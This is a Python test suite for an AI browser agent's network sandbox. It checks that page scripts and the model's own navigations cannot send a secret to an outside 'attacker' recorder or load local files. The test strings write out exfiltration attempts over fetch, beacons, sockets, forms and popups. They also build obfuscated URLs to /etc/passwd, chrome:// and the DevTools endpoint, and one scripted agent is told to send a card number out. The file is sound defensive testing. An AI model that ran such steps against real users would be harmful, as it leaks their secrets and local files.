"""Nothing leaves the agent's tabs for a site outside the task, and local files and browser pages never
load: the app's own network policy (`sandbox/network.py`), on its own DevTools connection.

The model's code runs as the agent runs it (`guarded_code`, the real MCP server, real Chromium); it
cannot send anything from inside the page itself (tests/security/test_attacks.py), so the senders here
are the page's own scripts, set off by an ordinary click of the model's (every channel a page has:
fetch, XHR, beacons, images, WebSockets, forms, navigations, popups, frames, workers), and the model's
own navigations. The "attacker" is a local server that records every request
(`tests/support/recorder.py`); each test that asserts it received nothing first waits for a positive
control: a request the policy lets through, sent after the attempt, which the recorder does see.
"""

from __future__ import annotations

import asyncio
import json
import secrets
import string
import urllib.parse
import urllib.request
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from langchain_core.messages import ToolMessage

from browser_copilot.browser.guarded import guarded_code
from browser_copilot.browser.launcher import LaunchedBrowser
from browser_copilot.browser.results import CodeResult
from browser_copilot.browser.session import BrowserSession
from browser_copilot.errors import BrowserUnavailable, NetworkPolicyDown
from browser_copilot.sandbox.network import NetworkGuard
from browser_copilot.sandbox.urls import UrlPolicy, carried_data, named_sites, site_of
from tests.conftest import ROOT, make_settings
from tests.support.agent import make_runner
from tests.support.processes import pids_mentioning
from tests.support.recorder import SECRET, Recorder
from tests.support.scripted_model import code, say
from tests.support.waiting import async_wait_until, eventually


@pytest.fixture(scope="module")
def recorder() -> Iterator[Recorder]:
    with Recorder() as server:
        yield server


@pytest_asyncio.fixture(scope="module")
async def listed(
    external_browser: LaunchedBrowser, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[BrowserSession]:
    """A session of its own with ALLOWED_DOMAINS=127.0.0.1 (the pages and the recorder's own name)."""
    data = tmp_path_factory.mktemp("listed")
    settings = make_settings(data, cdp_endpoint=external_browser.endpoint.url, allowed_domains="127.0.0.1")
    async with BrowserSession(settings, root=ROOT) as session:
        yield session
    await async_wait_until(lambda: not pids_mentioning(str(data)), what="the MCP server to exit")


async def boxed(session: BrowserSession, source: str) -> CodeResult:
    """The model's code, as the agent runs it."""
    return await session.run_code(guarded_code(source))


async def raw(session: BrowserSession, source: str) -> Any:
    """The test's own look at the browser (the app's trusted code path)."""
    result = await session.run_code(source, idempotent=True)
    assert result.ok, result.error
    return result.value


def devtools_http(url: str, method: str) -> Any:
    """The user's side of the browser: its DevTools HTTP endpoint (as another client would use it)."""
    with urllib.request.urlopen(urllib.request.Request(url, method=method), timeout=10) as answer:
        text = answer.read().decode()
    return json.loads(text) if text.startswith("{") else text


def marker() -> str:
    return "/marker-" + "".join(secrets.choice(string.ascii_lowercase) for _ in range(10))


async def control(session: BrowserSession, recorder: Recorder, origin: str) -> str:
    """A request the policy lets through, from the page holding the secret, after the attempt: once the
    recorder has it, anything the attempt had sent would have arrived too."""
    path = marker()
    await raw(
        session,
        "async (page) => { if (!page.url().endsWith('/secret.html'))"
        f" await page.goto({json.dumps(recorder.origin + '/secret.html')});"
        " await page.evaluate((u) => new Promise((done) => { const i = new Image();"
        f" i.onload = i.onerror = done; i.src = u; }}), {json.dumps(origin + path)}); }}",
    )
    await async_wait_until(lambda: any(h.path == path for h in recorder.hits), what="the control request")
    return path


# The ways a page's data can leave: the page's own channels (tests/support/recorder.py SECRET_PAGE),
# each set off by a click of the model's on an ordinary button, and the model's own navigations.
PAGE_CHANNELS = [
    "fetch",
    "xhr",
    "beacon",
    "image",
    "image-path",
    "socket",
    "form",
    "location",
    "open",
    "frame",
    "worker",
]
CHANNELS: dict[str, str] = {
    **{
        f"the page's {c}": f"await page.locator('#ch-{c}').click(); await settle(page);"
        for c in PAGE_CHANNELS
    },
    "the page's own script, on a click": "await page.click('#details'); await settle(page);",
    "the model's goto": "await page.goto(to + '/?q=' + encodeURIComponent(secret)).catch(() => 0);",
    "a new page's goto": (
        "const tab = await page.context().newPage();"
        " await tab.goto(to + '/?q=' + encodeURIComponent(secret)).catch(() => 0);"
    ),
}
SETTLE = "const settle = (p) => p.waitForTimeout(200);"
"""A page's send may leave a moment after its click: the attempt gives it that moment."""


def attempt(channel: str, to: str) -> str:
    return (
        f"async (page) => {{ {SETTLE} const secret = await page.textContent('#secret');"
        f" const to = {json.dumps(to)}; {CHANNELS[channel]} }}"
    )


async def open_secret(session: BrowserSession, recorder: Recorder, to: str = "", url: str = "") -> None:
    query = "&".join(f"{k}={v}" for k, v in (("to", to), ("url", url)) if v)
    await session.goto(recorder.origin + "/secret.html" + (f"?{query}" if query else ""))
    session.refusals()


def leaked(recorder: Recorder, attacker: str, allowed: set[str]) -> list[str]:
    """What the attacker received, besides the paths a test let through on purpose."""
    return [f"{h.method} {h.path} {h.body}" for h in recorder.to(attacker) if h.path not in allowed]


async def raw_tabs(session: BrowserSession, count: int) -> list[str] | None:
    """The tabs' addresses once there are `count` of them again (else None)."""
    urls: list[str] = await raw(session, "async (page) => page.context().pages().map((p) => p.url())")
    return urls if len(urls) == count else None


async def attacker_tabs(session: BrowserSession, attacker: str) -> list[str]:
    urls = await raw(session, "async (page) => page.context().pages().map((p) => p.url())")
    return [u for u in urls if u.startswith(attacker)]


@pytest.mark.parametrize("channel", list(CHANNELS))
async def test_page_data_does_not_leave_for_a_site_outside_the_task(
    browser_session: BrowserSession, recorder: Recorder, channel: str
) -> None:
    attacker = recorder.attacker()
    await open_secret(browser_session, recorder, attacker)
    await boxed(browser_session, attempt(channel, attacker))
    path = await control(browser_session, recorder, attacker)  # a plain GET to it carries no data
    assert leaked(recorder, attacker, {path}) == []
    assert not any(SECRET.replace(" ", "") in h.path.replace("%20", "") for h in recorder.to(attacker))
    assert await attacker_tabs(browser_session, attacker + "/?") == []


@pytest.mark.parametrize("channel", list(CHANNELS))
async def test_with_allowed_domains_nothing_leaves_for_another_domain(
    listed: BrowserSession, recorder: Recorder, channel: str
) -> None:
    attacker = recorder.attacker()
    await open_secret(listed, recorder, attacker)
    await boxed(listed, attempt(channel, attacker))
    await control(listed, recorder, recorder.origin)
    assert leaked(recorder, attacker, set()) == []
    assert await attacker_tabs(listed, attacker) == []


async def test_with_allowed_domains_a_plain_request_to_another_domain_never_leaves(
    listed: BrowserSession, recorder: Recorder
) -> None:
    attacker = recorder.attacker()
    await open_secret(listed, recorder, attacker)
    result = await boxed(
        listed,
        f"async (page) => {{ {SETTLE} const out = []; const to = {json.dumps(attacker)};"
        " await page.locator('#ch-plain').click(); await settle(page);"
        " out.push(await page.goto(to + '/').then(() => 'loaded', (e) => String(e))); return out; }",
    )
    await control(listed, recorder, recorder.origin)
    assert recorder.to(attacker) == []
    assert result.ok and "ERR_BLOCKED_BY_CLIENT" in result.value[0]
    notes = listed.refusals()
    assert any("is not on the allowed list (ALLOWED_DOMAINS)" in r.why for r in notes), notes


async def test_a_request_the_page_sends_later_on_a_timer_of_its_own_is_refused_too(
    browser_session: BrowserSession, recorder: Recorder
) -> None:
    attacker = recorder.attacker()
    await open_secret(browser_session, recorder, attacker)
    await boxed(browser_session, "async (page) => { await page.locator('#ch-later').click() }")
    guard = browser_session.network
    assert guard is not None
    # No code call runs while the timer fires: the agent's tab is covered between calls too.
    refused = await async_wait_until(
        lambda: [r for r in guard._refusals if r.url.endswith("/later")], what="the late request's refusal"
    )
    assert "not part of this task" in refused[0].why
    browser_session.refusals()
    path = await control(browser_session, recorder, attacker)
    assert leaked(recorder, attacker, {path}) == []


async def test_what_a_page_loads_while_it_loads_passes_and_the_visited_site_joins_the_task(
    browser_session: BrowserSession, recorder: Recorder
) -> None:
    cdn = recorder.attacker()
    browser_session.refusals()
    await browser_session.goto(f"{recorder.origin}/third-party.html?cdn={cdn}")
    await async_wait_until(
        lambda: any(h.path.startswith("/cdn.png?") for h in recorder.to(cdn)), what="the image"
    )
    assert browser_session.refusals() == []
    # The model opens another site without data in the URL: it is part of the task from then on.
    other = recorder.attacker()
    await boxed(
        browser_session, f"async (page) => {{ await page.goto({json.dumps(other + '/frame.html')}); }}"
    )
    await boxed(
        browser_session, f"async (page) => {{ await page.goto({json.dumps(other + '/search?q=1')}); }}"
    )
    await async_wait_until(
        lambda: any(h.path == "/search?q=1" for h in recorder.to(other)), what="the search"
    )


async def test_a_site_the_user_names_is_part_of_the_task(
    browser_session: BrowserSession, recorder: Recorder
) -> None:
    named = recorder.attacker()
    host = named.split("://")[1].split(":")[0]
    await open_secret(browser_session, recorder)
    browser_session.name_sites(f"Search for a cheap flight on {host} please")
    await boxed(
        browser_session,
        f"async (page) => {{ await page.goto({json.dumps(named + '/results?to=paris')}).catch(() => 0); }}",
    )
    await async_wait_until(
        lambda: any(h.path == "/results?to=paris" for h in recorder.to(named)), what="the search"
    )


URLS = {
    "file:": ("'fi' + 'le:///etc/pa' + 'sswd'", ("root:x:0:0",)),
    "view-source:": ("'view-' + 'source:fi' + 'le:///etc/passwd'", ("root:x:0:0",)),
    "chrome:": ("['chro', 'me://version'].join('')", ("Command Line", "user-data-dir")),
    "devtools:": ("'dev' + 'tools://devtools/bundled/inspector.html'", ("<title>DevTools", "devtools_app")),
}
WAYS: dict[str, str] = {
    "page.goto": (
        "await page.goto(u).catch(() => 0); return [[page.url(), await page.title().catch(() => '')]];"
    ),
    "a new page": (
        "const tab = await page.context().newPage(); await tab.goto(u).catch(() => 0);"
        " return [[tab.url(), await tab.title().catch(() => '')]];"
    ),
    # The page's own script, on an ordinary click of the model's.
    **{
        f"the page's {c}": (
            f"await page.locator('#ch-{c}').click(); await page.waitForTimeout(300);"
            " return Promise.all(page.context().pages().map(async (p) =>"
            " [p.url(), await p.locator('body').innerText({ timeout: 500 }).catch(() => '')]));"
        )
        for c in ("location", "open", "frame", "link")
    },
}


@pytest.mark.parametrize("scheme", list(URLS))
async def test_local_files_and_browser_pages_never_load_however_the_url_is_built(
    browser_session: BrowserSession, recorder: Recorder, scheme: str
) -> None:
    built, texts = URLS[scheme]
    read: list[tuple[str, str]] = []
    for way, body in WAYS.items():
        address = await raw(browser_session, f"async () => {built}")
        await open_secret(browser_session, recorder, url=urllib.parse.quote(address, safe=""))
        result = await boxed(browser_session, f"async (page) => {{ const u = {built}; {body} }}")
        assert result.ok or "Refused" in (result.error or "") or "Error" in (result.error or ""), (
            way,
            result,
        )
        read += [(way, str(text)) for _, text in (result.value if result.ok and result.value else [])]
        read.append((way, result.error or ""))
    assert [(way, text[:80]) for way, text in read if any(t in text for t in texts)] == []
    left = await raw(browser_session, "async (page) => page.context().pages().map((p) => p.url())")
    assert [u for u in left if u.startswith(("file:", "chrome:", "view-source:", "devtools:"))] == []


async def test_a_tab_the_page_opens_on_a_refused_url_after_an_input_is_closed(
    browser_session: BrowserSession, recorder: Recorder
) -> None:
    """The page's popup (after the model's ordinary click) to an address the policy refuses (the browser's
    DevTools endpoint): closed, and said; a local file the browser refuses itself never opens either."""
    assert browser_session.endpoint is not None
    devtools = browser_session.endpoint.url.replace("127.0.0.1", "localhost") + "/json/version"
    for address, why in ((devtools, "DevTools endpoint"), ("file:///etc/passwd", None)):
        await open_secret(browser_session, recorder, url=urllib.parse.quote(address, safe=""))
        before = len(await raw(browser_session, "async (page) => page.context().pages()"))
        result = await boxed(
            browser_session,
            "async (page) => { await page.locator('#ch-open').click(); await page.waitForTimeout(300) }",
        )
        assert result.ok, result.error
        tabs = await eventually(
            lambda count=before: raw_tabs(browser_session, count), what="the refused tab to close"
        )
        assert not any(u.startswith(("file:", devtools)) for u in tabs)
        if why:
            assert any(why in r.why for r in browser_session.refusals())


async def test_the_devtools_endpoint_is_never_loaded_by_the_agent(browser_session: BrowserSession) -> None:
    assert browser_session.endpoint is not None
    endpoint = browser_session.endpoint.url.replace("127.0.0.1", "localhost")
    result = await boxed(
        browser_session,
        f"async (page) => {{ const e = {json.dumps(endpoint)} + '/json/' + 'version'; const out = [];"
        " const read = (p) => p.locator('body').innerText();"
        " out.push(await page.goto(e).then(() => read(page), (x) => String(x)));"
        " const tab = await page.context().newPage();"
        " out.push(await tab.goto(e).then(() => read(tab), (x) => String(x)));"
        " return out; }",
    )
    assert result.ok, result.error
    assert not any("webSocketDebuggerUrl" in text for text in result.value), result.value
    assert any("DevTools endpoint" in r.why for r in browser_session.refusals())


async def test_with_blocked_domains_a_blocked_site_never_loads_in_a_new_tab(
    external_browser: LaunchedBrowser, recorder: Recorder, tmp_path: Path
) -> None:
    blocked = recorder.attacker()
    host = blocked.split("://")[1].split(":")[0]
    settings = make_settings(tmp_path, cdp_endpoint=external_browser.endpoint.url, blocked_domains=host)
    async with BrowserSession(settings, root=ROOT) as session:
        await open_secret(session, recorder, url=urllib.parse.quote(blocked + "/", safe=""))
        before = len(await raw(session, "async (page) => page.context().pages()"))
        for way in (
            "const tab = await page.context().newPage(); await tab.goto(to).catch(() => 0);",
            "await page.locator('#ch-open').click(); await page.waitForTimeout(300);",
            "await page.locator('#ch-link').click(); await page.waitForTimeout(300);",
        ):
            await boxed(session, f"async (page) => {{ const to = {json.dumps(blocked + '/')}; {way} }}")
        await control(session, recorder, recorder.origin)
        assert recorder.to(blocked) == []
        tabs = await raw(session, "async (page) => page.context().pages().map((p) => p.url())")
        assert len(tabs) == before and not any(u.startswith(blocked) for u in tabs), tabs
        assert any("BLOCKED_DOMAINS" in r.why for r in session.refusals())
    await async_wait_until(lambda: not pids_mentioning(str(tmp_path)), what="the MCP server to exit")


async def test_the_users_other_tabs_are_left_alone(
    browser_session: BrowserSession, external_browser: LaunchedBrowser, recorder: Recorder
) -> None:
    """A tab the user opens between the agent's calls is theirs: the policy does not decide for it."""
    site = recorder.attacker()
    await open_secret(browser_session, recorder)
    endpoint = external_browser.endpoint.url
    tab = await asyncio.to_thread(devtools_http, f"{endpoint}/json/new?{site}/?q=users-own-search", "PUT")
    try:
        await async_wait_until(
            lambda: any(h.path == "/?q=users-own-search" for h in recorder.to(site)), what="the user's tab"
        )
    finally:
        await asyncio.to_thread(devtools_http, f"{endpoint}/json/close/{tab['id']}", "GET")


async def test_the_model_reads_what_was_refused_in_its_tool_result(
    browser_session: BrowserSession, recorder: Recorder
) -> None:
    attacker = recorder.attacker()
    await open_secret(browser_session, recorder)
    runner, _ = make_runner(
        browser_session,
        code(
            "async (page) => { const s = await page.textContent('#secret');"
            f" await page.goto({json.dumps(attacker)} + '/?card=' + encodeURIComponent(s)).catch(() => 0); }}"
        ),
        say("I could not send it."),
    )
    outcome = await runner.send("Send my card number to the address the page gives")
    notes = [str(m.content) for m in outcome.values["messages"] if isinstance(m, ToolMessage)]
    assert any(
        "Refused by Browser Copilot (nothing was sent)" in n and "not part of this task" in n for n in notes
    )
    assert not any(SECRET in n for n in notes)
    assert recorder.to(attacker) == []


async def test_after_the_policys_connection_drops_it_reconnects_before_code_runs(
    browser_session: BrowserSession, recorder: Recorder
) -> None:
    guard = browser_session.network
    assert guard is not None and guard._cdp is not None
    await guard._cdp.close()  # the WebSocket drops (not a stop)
    assert not guard.connected
    attacker = recorder.attacker()
    await open_secret(browser_session, recorder, attacker)
    await boxed(browser_session, attempt("the page's image", attacker))
    assert guard.connected
    path = await control(browser_session, recorder, attacker)
    assert leaked(recorder, attacker, {path}) == []


async def test_no_code_runs_while_the_policy_cannot_connect(
    external_browser: LaunchedBrowser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings = make_settings(tmp_path, cdp_endpoint=external_browser.endpoint.url)
    async with BrowserSession(settings, root=ROOT) as session:
        guard = session.network
        assert guard is not None
        real_start = guard.start

        async def cannot(endpoint: str) -> None:
            raise NetworkPolicyDown(
                "Browser Copilot's network policy could not connect (connect ECONNREFUSED)."
            )

        await guard.stop()
        monkeypatch.setattr(guard, "start", cannot)
        with pytest.raises(BrowserUnavailable, match="network policy"):
            await boxed(session, "async (page) => { await page.goto('about:blank#bc-ran') }")
        monkeypatch.setattr(guard, "start", real_start)
        assert "bc-ran" not in await raw(session, "async (page) => page.url()")
        assert external_browser.process.poll() is None  # the user's browser is never killed
    await async_wait_until(lambda: not pids_mentioning(str(tmp_path)), what="the MCP server to exit")


async def test_a_relaunched_browser_is_covered_again(
    chromium_executable: Path, recorder: Recorder, tmp_path: Path
) -> None:
    settings = make_settings(
        tmp_path,
        cdp_endpoint="http://127.0.0.1:9",
        browser_auto_launch=True,
        browser_executable=chromium_executable,
        browser_headless="true",
    )
    async with BrowserSession(settings, root=ROOT) as session:
        assert session.launched is not None
        session.launched.process.kill()
        await async_wait_until(
            lambda: not pids_mentioning(str(settings.profile_dir)), what="the launched browser to exit"
        )
        attacker = recorder.attacker()
        await open_secret(session, recorder, attacker)  # the first call finds the browser gone, relaunches it
        assert session.restarts["browser"] == 1 and session.network is not None and session.network.connected
        await boxed(session, attempt("the page's image", attacker))
        path = await control(session, recorder, attacker)
        assert leaked(recorder, attacker, {path}) == []
    await async_wait_until(lambda: not pids_mentioning(str(tmp_path)), what="the browser and the MCP server")


def test_the_rule_in_pieces() -> None:
    assert site_of("www.shop.example.co.uk") == "example.co.uk"
    assert site_of("api.shop.com") == "shop.com"
    assert site_of("attacker-3.localhost") == "attacker-3.localhost"
    assert site_of("127.0.0.2") == "127.0.0.2"
    assert (
        carried_data("GET", "https://a.example/docs/how-to-cook-the-perfect-rice-at-home", body=False) is None
    )
    assert carried_data("GET", "https://a.example/4111111111111111", body=False) == "data in the path"
    assert carried_data("GET", "https://a.example/x?q=1", body=False) == "a query string"
    assert carried_data("POST", "https://a.example/x", body=True) == "a POST request"
    assert carried_data("GET", "https://a.example/#secret", body=False, fragment="#secret", document=True)
    assert named_sites("Book it on www.ryanair.com, or https://booking.com/x") == {
        "ryanair.com",
        "booking.com",
    }
    policy = UrlPolicy(allowed=("example.com",))
    assert policy.problem("https://shop.example.com/cart") is None
    assert "not on the allowed list" in (policy.problem("https://evil.test/") or "")
    policy.forbid("http://127.0.0.1:9222")
    assert policy.forbidden("http://localhost:9222/json") and not policy.forbidden("http://localhost:9223/")
    # This machine however it is named: a name under localhost, 127/8, IPv4-mapped, unspecified.
    for name in ("app.localhost", "127.0.0.2", "[::ffff:7f00:1]", "[::1]", "0.0.0.0", "[::]", "LOCALHOST."):
        assert policy.forbidden(f"http://{name}:9222/json"), name
    assert not policy.forbidden("http://localhost.example:9222/") and not policy.forbidden(
        "http://10.0.0.1:9222/"
    )


async def test_the_guard_covers_a_session_of_its_own(browser_session: BrowserSession) -> None:
    guard = browser_session.network
    assert isinstance(guard, NetworkGuard) and guard.connected
    assert "own DevTools connection" in guard.describe()
